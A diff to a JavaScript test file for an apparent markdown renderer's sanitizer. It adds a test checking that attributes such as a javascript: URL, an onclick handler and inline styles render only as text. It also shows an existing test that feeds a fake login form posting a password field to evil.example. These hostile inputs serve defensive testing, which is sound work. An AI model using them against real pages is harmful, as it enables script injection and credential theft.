@@ -53,6 +53,13 @@ describe('what streams can be used', () => {
 });
 
 describe('what streams is safe', () => {
+  it('an unknown type tells what its attributes say, as text', async () => {
+    const { stream, different } = await feedAll(':::price {amount=12 note="<b>a</b> \u202eb" src=javascript:x onclick=f() style=x}\n:::\n');
+    expect(different).to.deep.equal([]);
+    expect(findAll(stream, '[data-mdui^=frame-]').flatMap(({ innerText }) => innerText.split('\n'))).to.deep.equal(['price', 'amount: 12', 'note: <b>a</b> b', 'src: javascript:x']);
+    expect(deep(stream).filter(element => element.matches('b, [src], [onclick], [style]:not([style=""])')).length).to.equal(0);
+  });
+
   it('F03: of a foreign form only the text survives', async () => {
     const { stream, different } = await feedAll('<form action="https://evil.example/c"><input name=pw><button>Continue</button></form><style>body{display:none}</style><p style="position:fixed;inset:0">x</p>', it => {
       const bad = it.querySelectorAll('form, input, button, style, [style], [name], [action]').length;
